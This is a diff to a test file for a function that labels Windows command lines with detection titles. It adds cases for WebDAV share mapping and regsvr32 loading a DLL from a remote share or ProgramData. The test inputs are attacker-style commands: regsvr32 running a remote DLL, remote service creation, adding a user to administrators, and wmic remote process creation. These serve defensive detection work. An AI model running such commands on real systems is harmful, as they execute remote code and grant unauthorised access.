@@ -141,6 +141,16 @@ describe('housekeeping commands', () => {
     expect(behaviourTitle('sc.exe', ['sc \\\\host01 create Example binPath= C:\\x.exe'])).toBe('Remote Service Creation Via Sc.EXE');
     expect(behaviourTitle('net.exe', ['net stop Example'])).toBe('Service Stopped Via Net.EXE');
     expect(behaviourTitle('net.exe', ['net localgroup administrators example /add'])).toBe('User Account Creation Via Net.EXE');
+    // Mapping a share is not discovery; over WebDAV (a port or SSL after the host, DavWWWRoot) it says so.
+    expect(behaviourTitle('net.exe', ['net use \\\\198.51.100.9@8888\\davwwwroot\\'])).toBe('WebDAV Share Mapped Via Net.EXE');
+    expect(behaviourTitle('net.exe', ['net use Z: \\\\files01\\projects /persistent:no'])).toBe('Network Share Mapped Via Net.EXE');
+    expect(behaviourTitle('net.exe', ['net view \\\\files01'])).toBe('Domain And Group Discovery Via Net.EXE');
+    expect(behaviourTitle('regsvr32.exe', ['regsvr32 /s \\\\198.51.100.9@8888\\davwwwroot\\q.dll'])).toBe(
+      'Regsvr32.EXE DLL Registration From A Remote Share',
+    );
+    expect(behaviourTitle('regsvr32.exe', ['regsvr32 /s C:\\ProgramData\\q.dll'])).toBe(
+      'Regsvr32.EXE DLL Registration From Unusual Location',
+    );
     expect(behaviourTitle('schtasks.exe', ['schtasks /run /tn create'])).toBe('Scheduled Task Started Via Schtasks.EXE');
     expect(behaviourTitle('wmic.exe', ['wmic /node:host01 process call create "cmd.exe /c whoami"'])).toBe('Process Creation Via Wmic.EXE');
     expect(behaviourTitle('wmic.exe', ['wmic service where name="Example" call stopservice'])).toBe(
